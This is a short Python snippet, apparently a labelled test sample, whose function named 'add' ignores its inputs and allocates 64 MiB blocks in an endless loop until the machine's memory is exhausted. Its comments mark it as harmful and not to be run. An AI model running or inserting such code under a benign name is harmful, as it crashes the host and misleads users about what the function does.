# Takes all the memory there is.
# stock: not run: it would harm the machine
# %% add
def add(x, y):
    kept = []
    while True:
        kept.append(bytearray(64 << 20))
